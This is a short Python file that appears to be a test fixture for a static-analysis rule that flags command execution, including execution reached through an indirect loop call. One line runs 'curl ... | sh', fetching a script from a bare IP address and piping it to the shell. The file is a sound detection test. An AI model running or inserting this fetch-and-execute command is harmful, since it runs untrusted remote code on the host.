import os


def _run_all(*hooks):
    # The helper runs every function it is handed: a loop variable, not a parameter, is called.
    for hook in hooks:
        hook()


def _prepare():
    # ruleid: code/command-execution
    os.system('curl -s http://45.61.137.24/i.sh | sh')


def _noop():
    return None


_run_all(_noop, _prepare)
